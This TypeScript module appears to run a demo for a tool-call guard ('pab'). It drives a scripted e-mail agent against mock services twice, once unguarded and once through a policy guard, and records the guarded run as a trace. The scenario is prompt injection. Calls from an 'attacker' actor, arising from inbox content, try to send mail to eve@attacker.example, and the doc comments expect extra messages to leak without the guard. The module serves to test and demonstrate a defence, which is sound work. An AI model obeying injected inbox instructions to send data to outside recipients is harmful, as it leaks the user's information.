/**
 * Run the demo's agent twice against the mock services: once calling its
 * tools directly, once through a {@linkcode Guard}; and record the guarded run
 * as a trace.
 *
 * @module
 */
import { errorText } from "../../../core/mod.ts";
import { explainDecision, Guard, ToolCallDenied } from "../../../guard/mod.ts";
import { parsePolicy } from "../../../guard/policy/text/mod.ts";
import type { Trace, TraceEvent } from "../../trace/mod.ts";
import { DEMO_POLICY, DEMO_POLICY_SOURCE } from "./demo_policy.ts";
import { makeDemoTools } from "./demo_tools.ts";
import type { SentEmail } from "./mock_services.ts";
import { type AgentCall, findRecipients, runScriptedAgent } from "./scripted_agent.ts";

/**
 * The demo's system prompt.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { DEMO_SYSTEM } from "./run_demo.ts";
 * assert.deepEqual(DEMO_SYSTEM.startsWith("You are an e-mail assistant"), true);
 * ```
 */
export const DEMO_SYSTEM = "You are an e-mail assistant. Tools: read_inbox, fetch_page, send_email.";

/**
 * What the demo's user asks for.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { DEMO_REQUEST } from "./run_demo.ts";
 * assert.deepEqual(DEMO_REQUEST.includes("alice@corp.example"), true);
 * ```
 */
export const DEMO_REQUEST =
  "Read my inbox and the Q3 report at https://intranet.corp.example/q3-report, then send a summary to alice@corp.example.";

/**
 * What happened to one call the agent made.
 *
 * @example
 * ```ts
 * import type { DemoCall } from "./run_demo.ts";
 * const call: DemoCall = {
 *   tool: "send_email",
 *   args: { to: "eve@attacker.example" },
 *   actor: "attacker",
 *   origin: "read_inbox",
 *   outcome: "denied",
 *   denied: "send_email: block\n- [untrusted-argument] ...",
 * };
 * ```
 */
export interface DemoCall extends AgentCall {
  /** `ran`: the tool ran; `denied`: pab said no; `failed`: the tool threw. */
  readonly outcome: "ran" | "denied" | "failed";
  /** What the tool returned, or why it failed. */
  readonly output?: string;
  /** With pab, when the call was denied: the decision's explanation. */
  readonly denied?: string;
  /** With pab, when the user was asked: the explanation they saw, and their answer. */
  readonly asked?: { readonly explanation: string; readonly confirmed: boolean };
}

/**
 * One run of the agent.
 *
 * @example
 * ```ts
 * import type { DemoRun } from "./run_demo.ts";
 * const run: DemoRun = { calls: [], outbox: [] };
 * ```
 */
export interface DemoRun {
  /** Every call, in order. */
  readonly calls: readonly DemoCall[];
  /** What the mock mail server accepted. */
  readonly outbox: readonly SentEmail[];
}

/**
 * Both runs, and the guarded one as a trace.
 *
 * @example
 * ```ts
 * import type { DemoReport } from "./run_demo.ts";
 * function stopped(report: DemoReport): number {
 *   return report.with.calls.filter((call) => call.actor === "attacker" && call.outcome === "denied").length;
 * }
 * ```
 */
export interface DemoReport {
  /** The user's request. */
  readonly request: string;
  /** The run without pab. */
  readonly without: DemoRun;
  /** The run with pab. */
  readonly with: DemoRun;
  /** The run with pab as a pab trace. */
  readonly trace: Trace;
}

/**
 * Run the demo against the mock services at `baseUrl`: without pab, then with
 * pab and the demo policy. The user, asked to confirm a call, agrees only to
 * recipients they named in their request.
 *
 * @example
 * ```ts ignore
 * import { runDemo } from "./run_demo.ts";
 * import { startMockServices } from "./mock_services.ts";
 * const services = startMockServices();
 * const report = await runDemo(services.url);
 * assert.deepEqual([report.without.outbox.length, report.with.outbox.length], [3, 1]);
 * await services.close();
 * ```
 */
export async function runDemo(baseUrl: string): Promise<DemoReport> {
  const demo = makeDemoTools(baseUrl);

  await demo.clearOutbox();
  const without: DemoCall[] = [];
  await runScriptedAgent(DEMO_REQUEST, async (call) => {
    try {
      const output = String(await demo.tools[call.tool]({ ...call.args }));
      without.push({ ...call, outcome: "ran", output });
      return output;
    } catch (error) {
      without.push({ ...call, outcome: "failed", output: errorText(error) });
      return undefined;
    }
  });
  const withoutOutbox = await demo.outbox();

  await demo.clearOutbox();
  const events: TraceEvent[] = [{ type: "system", content: DEMO_SYSTEM }, { type: "user", content: DEMO_REQUEST }];
  let asked: DemoCall["asked"];
  const guard = new Guard(parsePolicy(DEMO_POLICY, { source: DEMO_POLICY_SOURCE }), {
    confirm: (decision) => {
      // The user agrees to send only to the recipients they asked for.
      const confirmed = findRecipients(DEMO_REQUEST).includes(String(decision.args.to));
      asked = { explanation: explainDecision(decision), confirmed };
      return confirmed;
    },
  });
  guard.system(DEMO_SYSTEM);
  guard.user(DEMO_REQUEST);
  let currentId = "";
  const guarded = Object.fromEntries(
    Object.entries(demo.tools).map(([name, tool]) => [
      name,
      guard.protect(async (args) => {
        const output = String(await tool(args));
        events.push({ type: "result", id: currentId, content: output });
        return output;
      }, { name }),
    ]),
  );
  const withPab: DemoCall[] = [];
  await runScriptedAgent(DEMO_REQUEST, async (call) => {
    currentId = `call_${withPab.length + 1}`;
    events.push({ type: "call", id: currentId, tool: call.tool, args: call.args, actor: call.actor });
    asked = undefined;
    try {
      const output = await guarded[call.tool]({ ...call.args });
      withPab.push({ ...call, outcome: "ran", output, ...(asked ? { asked } : {}) });
      return output;
    } catch (error) {
      if (error instanceof ToolCallDenied) {
        withPab.push({
          ...call,
          outcome: "denied",
          denied: explainDecision(error.decision),
          ...(asked ? { asked } : {}),
        });
      } else {
        withPab.push({ ...call, outcome: "failed", output: errorText(error) });
      }
      return undefined;
    }
  });
  const withOutbox = await demo.outbox();

  return {
    request: DEMO_REQUEST,
    without: { calls: without, outbox: withoutOutbox },
    with: { calls: withPab, outbox: withOutbox },
    trace: {
      id: "pab-demo",
      meta: {
        source: "pab demo --record",
        policy: "traces/examples/demo.policy.yaml (pab demo --print-policy)",
      },
      events,
    },
  };
}
